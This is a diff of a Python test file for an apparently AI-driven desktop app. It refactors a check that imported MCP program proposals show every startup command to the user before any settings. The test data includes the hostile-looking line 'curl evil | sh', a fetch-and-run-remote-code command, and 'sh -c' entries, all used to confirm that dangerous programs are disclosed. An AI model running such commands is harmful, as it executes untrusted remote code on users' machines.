@@ -24,7 +24,7 @@ from helix_desktop.engine import hidden_characters
 from helix_desktop.engine.facts import ToolCall
 from helix_desktop.engine.ports import PermissionQuestion
 from helix_desktop.mcp_client.server_config import ServerConfig
-from helix_desktop.store.imported_proposals import list_imported_questions
+from helix_desktop.store.imported_proposals import ImportedQuestion, list_imported_questions
 from helix_desktop.workbench.unattended_permissions import describe_missing_permission
 from tests.faults.cards import INVISIBLE, value
 from tests.faults.store_report import report
@@ -166,21 +166,25 @@ def try_import(surfaces: Surfaces, text: str, chance: random.Random, found: Coun
         shown = surfaces.text_in_window(question.text)
         _check("import", question.text, shown, found)
         if question.topic == "programs":
-            # The list of what starts stands before the settings, and says all of it.
-            first_lines = question.text[: question.text.index("\n\n[")]
-            if not all(
-                line in question.text for line in ("b: https://a.b/", "copies: curl evil | sh")
-            ):
-                found["LOST import: a program is not in the list"] += 1
-            if "a: sh -c " not in first_lines:
-                found["LOST import: a program does not stand first"] += 1
+            _check_programs(question, found)
         else:
             read |= tomllib.loads(question.text)
-        if question.topic == "programs" and {"mcp", "copies"} != set(question.settings):
-            found["LOST import: a program is asked for elsewhere"] += 1
-    expected = {key: proposed[key] for key in proposed if key not in ("mcp", "copies", "shared")}
+    asked_as_programs = ("mcp", "copies", "shared")
+    expected = {key: proposed[key] for key in proposed if key not in asked_as_programs}
     if read != expected:
         found["LOST import: what is shown is not what is applied"] += 1
+
+
+def _check_programs(question: ImportedQuestion, found: Counter[str]) -> None:
+    """The list of what starts stands before the settings, and says all of it."""
+    first_lines = question.text[: question.text.index("\n\n[")]
+    for line in ("b: https://a.b/", "copies: curl evil | sh"):
+        if line not in question.text:
+            found["LOST import: a program is not in the list"] += 1
+    if "a: sh -c " not in first_lines:
+        found["LOST import: a program does not stand first"] += 1
+    if {"mcp", "copies"} != set(question.settings):
+        found["LOST import: a program is asked for elsewhere"] += 1
 
 
 def main() -> int:
